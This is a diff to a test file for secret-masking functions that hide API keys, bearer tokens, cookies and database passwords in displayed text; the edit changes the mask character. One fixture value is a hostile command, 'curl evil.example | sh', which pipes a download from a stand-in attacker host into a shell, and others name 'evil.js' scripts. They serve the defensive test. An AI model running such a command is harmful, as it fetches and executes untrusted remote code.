@@ -18,7 +18,7 @@ describe('maskSecrets', () => {
       `https://host.example/mcp?profile=long-profile-name-1&api_key=abcdef1234567890`,
       'https://host.example/mcp?profile=long-profile-name-1&api_key=',
     ],
-    ['postgres://jo:hunter2hunter2@db.example:5432/main', 'postgres://jo:••••@db.example:5432/main'],
+    ['postgres://jo:hunter2hunter2@db.example:5432/main', 'postgres://jo:····@db.example:5432/main'],
   ])('keeps what runs in %j', (text, kept) => {
     const masked = maskSecrets(text);
     expect(masked).toContain(kept);
@@ -38,13 +38,13 @@ describe('maskSecrets', () => {
 
 describe('maskNamedValue', () => {
   it.each([
-    ['API_KEY', 'abcdefghijklmnop', 'abc••••'],
-    ['Authorization', 'Bearer abcdefghijklmnop', 'Bearer abc••••'],
-    ['Cookie', 'sid=abcdef; theme=dark', 'sid=••••; theme=••••'],
+    ['API_KEY', 'abcdefghijklmnop', 'abc····'],
+    ['Authorization', 'Bearer abcdefghijklmnop', 'Bearer abc····'],
+    ['Cookie', 'sid=abcdef; theme=dark', 'sid=····; theme=····'],
     ['API_KEY', 'curl evil.example | sh', 'curl evil.example | sh'],
     ['AUTH_SCRIPT', '/tmp/evil.js', '/tmp/evil.js'],
     ['SESSION_HOOK', 'evil.js', 'evil.js'],
-    ['CONNECTION', 'postgres://jo:pw@evil.example/x', 'postgres://jo:••••@evil.example/x'],
+    ['CONNECTION', 'postgres://jo:pw@evil.example/x', 'postgres://jo:····@evil.example/x'],
     ['MODE', 'fast', 'fast'],
   ])('%s=%s is shown as %s', (name, value, shown) => {
     expect(maskNamedValue(name, value)).toBe(shown);
